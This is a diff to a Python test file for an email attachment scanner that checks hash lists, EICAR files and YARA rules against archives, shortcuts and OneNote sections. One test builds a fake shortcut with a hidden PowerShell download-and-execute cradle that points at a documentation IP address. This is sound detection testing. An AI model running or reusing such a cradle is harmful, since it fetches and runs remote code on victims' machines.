@@ -1,6 +1,4 @@
 import hashlib
-import io
-import zipfile
 
 import pytest
 
@@ -9,17 +7,10 @@ from kakuri.model import Action, Part
 from kakuri.pipeline import Scanner
 from kakuri.settings import Settings, SettingsError
 from tests.builders import make_message
+from tests.builders_archive import LNK_HEADER, onenote_with, zip_of
 
 SAMPLE = b"MZ\x90\x00 an inert sample that a CERT advisory listed " * 4
 SAMPLE_SHA256 = hashlib.sha256(SAMPLE).hexdigest()
-
-
-def zip_of(*members: tuple[str, bytes]) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, data in members:
-            archive.writestr(name, data)
-    return buffer.getvalue()
 
 
 def rules_dir(settings: Settings, kind: str):
@@ -41,7 +32,7 @@ def test_listed_sha256_of_a_zip_member_is_matched_and_quarantined(settings):
     (rules_dir(settings, "sha256") / "cert-2020-09.txt").write_text(
         f"# JPCERT advisory, Emotet loaders\n{SAMPLE_SHA256.upper()}  # loader\n\n{'0' * 64}\n"
     )
-    verdict = scan(settings, ("見積書.zip", zip_of(("見積書.bin", SAMPLE))))
+    verdict = scan(settings, ("見積書.zip", zip_of({"見積書.bin": SAMPLE})))
     hit = hits(verdict, "IOC_HASH_MATCH")
     assert [(f.part, f.evidence["list"], f.evidence["sha256"]) for f in hit] == [
         ("見積書.zip/見積書.bin", "cert-2020-09.txt", SAMPLE_SHA256)
@@ -98,8 +89,8 @@ def test_invalid_detector_options_are_a_settings_error(settings):
     [
         ("eicar.com", EICAR),
         ("eicar.txt", EICAR + b"\r\n"),
-        ("eicar_com.zip", zip_of(("eicar.com", EICAR))),
-        ("nested.zip", zip_of(("inner.zip", zip_of(("eicar.com", EICAR))))),
+        ("eicar_com.zip", zip_of({"eicar.com": EICAR})),
+        ("nested.zip", zip_of({"inner.zip": zip_of({"eicar.com": EICAR})})),
     ],
 )
 def test_eicar_test_file_is_quarantined_like_malware_at_any_depth(settings, attachment):
@@ -122,8 +113,7 @@ def test_text_that_quotes_the_eicar_string_is_not_the_test_file(settings):
 
 def test_stock_rules_catch_a_powershell_cradle_in_a_shortcut(settings):
     arguments = "-nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')"
-    lnk = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 60
-    lnk += "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe ".encode("utf-16-le") + arguments.encode("utf-16-le")
+    lnk = LNK_HEADER + "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe ".encode("utf-16-le") + arguments.encode("utf-16-le")
     hit = hits(scan(settings, ("請求書.pdf.lnk", lnk)), "IOC_YARA_MATCH")
     assert [(f.evidence["rule"], f.evidence["namespace"], f.weight) for f in hit] == [
         ("PowerShell_Download_Cradle", "kakuri_scripts", 0.8)
@@ -161,3 +151,9 @@ def test_odd_parts_do_not_raise(settings, data):
     message = Scanner(settings, detectors=[]).scan(make_message(attachments=[("x", b"y")])).message
     message.parts = [Part(path="p", data=data, filename=None)]
     assert [f.symbol for f in detector.check(message, None)] == []
+
+
+def test_stock_rules_catch_a_onenote_section_embedding_a_script(settings):
+    section = onenote_with([b"<script>x</script>"]) + "C:\\Users\\a\\open.hta".encode("utf-16-le")
+    hit = hits(scan(settings, ("議事録.one", section)), "IOC_YARA_MATCH")
+    assert "OneNote_Embedded_Runnable_File" in {f.evidence["rule"] for f in hit}
